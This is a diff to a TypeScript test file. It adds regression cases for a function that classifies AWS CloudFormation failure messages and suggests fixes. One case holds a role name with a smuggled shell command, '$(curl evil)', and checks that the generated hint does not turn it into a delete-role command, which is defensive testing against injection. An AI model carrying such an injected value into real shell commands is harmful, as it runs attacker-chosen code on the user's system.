@@ -50,7 +50,23 @@ const corpus: Array<[Category, string, string, string, string[]]> = [
   ['unknown', 'Something nobody has seen before', 'AWS::Custom::Thing', 'CREATE_FAILED', []],
 ];
 
+// Shapes a review found misdiagnosed: what each must not become, and what it is.
+const regressions: Array<[string, string, string, string, Category, RegExp | null]> = [
+  ['a missing subnet under the catch-all InvalidRequest code', `Resource handler returned message: "Subnet subnet-0abc does not exist" (${TOKEN}, HandlerErrorCode: InvalidRequest)`, 'AWS::EC2::Instance', 'CREATE_FAILED', 'dependency', /\(InvalidRequest, InvalidRequest\)/],
+  ['a log group conflict that names no log group', 'The specified log group already exists (Service: AWSLogs; Status Code: 400; Error Code: ResourceAlreadyExistsException)', 'AWS::Logs::LogGroup', 'CREATE_FAILED', 'already-exists', /--log-group-name group\b/],
+  ['a 409 for an update in progress', 'The operation cannot be performed at this time. An update is in progress for resource: arn:aws:lambda:us-east-1:123456789012:function:x (Service: Lambda, Status Code: 409, Request ID: 1)', 'AWS::Lambda::Function', 'UPDATE_FAILED', 'unknown', /already exists/],
+  ['retries exhausted, not a limit', `Resource handler returned message: "Exceeded maximum number of attempts" (${TOKEN}, HandlerErrorCode: NotStabilized)`, 'AWS::RDS::DBCluster', 'CREATE_FAILED', 'timeout', /limit/],
+  ['a bad workgroup name on create', 'Invalid WorkGroup name: contains invalid characters (Service: Athena, Status Code: 400)', 'AWS::Athena::WorkGroup', 'CREATE_FAILED', 'invalid-parameter', /not empty/],
+  ['a name no shell should run', 'Role with name $(curl evil) already exists.', 'AWS::IAM::Role', 'CREATE_FAILED', 'already-exists', /aws iam delete-role/],
+];
+
 describe('classifyReason', () => {
+  it.each(regressions)('%s', (_what, reason, type, status, category, never) => {
+    const c = classifyReason(reason, type, status);
+    expect(c.category).toBe(category);
+    if (never) expect(c.hint).not.toMatch(never);
+  });
+
   it.each(corpus)('%s: %s', (category, reason, type, status, hintHas) => {
     const c = classifyReason(reason, type, status);
     expect(c.category).toBe(category);
